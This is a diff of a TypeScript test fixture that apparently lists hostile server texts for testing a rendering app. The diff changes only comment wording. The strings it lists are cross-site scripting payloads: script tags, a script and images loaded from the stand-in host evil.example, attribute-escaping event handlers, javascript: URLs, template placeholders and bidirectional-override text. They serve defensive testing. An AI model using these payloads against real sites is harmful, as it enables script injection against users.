@@ -1,12 +1,12 @@
 /**
- * What a hostile server writes into every text that it sends (faults SR-107 and SR-108): markup that
- * runs, markup that loads, ways out of an attribute, addresses that run, and the placeholders and keys
- * of the app's own texts. Whatever ran would set `hit` on the window.
+ * What a hostile server writes into every text that it sends (faults SR-107 and SR-108). It covers markup
+ * that runs, markup that loads, escapes from an attribute, addresses that run, and the placeholders and keys
+ * of the app's own texts. Any text that ran would set `hit` on the window.
  */
 
 const run = 'window.hit=1';
 
-/** Markup that browsers run when it becomes elements. */
+/** Markup that browsers run when it is turned into elements. */
 const scripts: readonly string[] = [
   `<script>${run}</script>`,
   `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
@@ -42,7 +42,7 @@ const scripts: readonly string[] = [
   `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`,
 ];
 
-/** Markup that loads from, or leads to, somebody else. */
+/** Markup that loads from, or links to, a foreign server. */
 const loads: readonly string[] = [
   '<img src="https://evil.example/x.png">',
   '<link rel=stylesheet href="https://evil.example/x.css">',
@@ -57,7 +57,7 @@ const loads: readonly string[] = [
   '![x](https://evil.example/x.png) [click](javascript:window.hit=1)',
 ];
 
-/** Ways out of an attribute, a string of a script, a comment, and texts that are encoded markup. */
+/** Escapes from an attribute, a string of a script or a comment, and texts that are encoded markup. */
 const escapes: readonly string[] = [
   `" onmouseover="${run}" x="`,
   `' autofocus onfocus='${run}`,
@@ -77,7 +77,7 @@ const escapes: readonly string[] = [
   `\u2028<script>${run}</script>\u2029`,
 ];
 
-/** Addresses that run when something leads to them. */
+/** Addresses that run when something links to them. */
 const addresses: readonly string[] = [
   `javascript:${run}`,
   `JaVaScRiPt:${run}//https://northgate.example/`,
@@ -88,7 +88,7 @@ const addresses: readonly string[] = [
   `//evil.example/x`,
 ];
 
-/** What the app's own texts would believe: placeholders, nesting, markup of theirs, and keys (SR-108). */
+/** What the app's own texts would interpret: placeholders, nesting, their markup, and keys (SR-108). */
 const placeholders: readonly string[] = [
   '{{x}}',
   '{{name}} {{count}} {{organization}}',
@@ -111,7 +111,7 @@ export const hostileTexts: readonly string[] = [
   ...placeholders,
 ];
 
-/** What a layout must hold, and keep from its surroundings (faults SR-113). */
+/** What a layout must contain, without affecting its surroundings (faults SR-113). */
 export const unusualTexts: readonly string[] = [
   '\u202Egnitoof no\u202C \u2067\u05D0\u05D1\u05D2',
   '\u202E never closed',
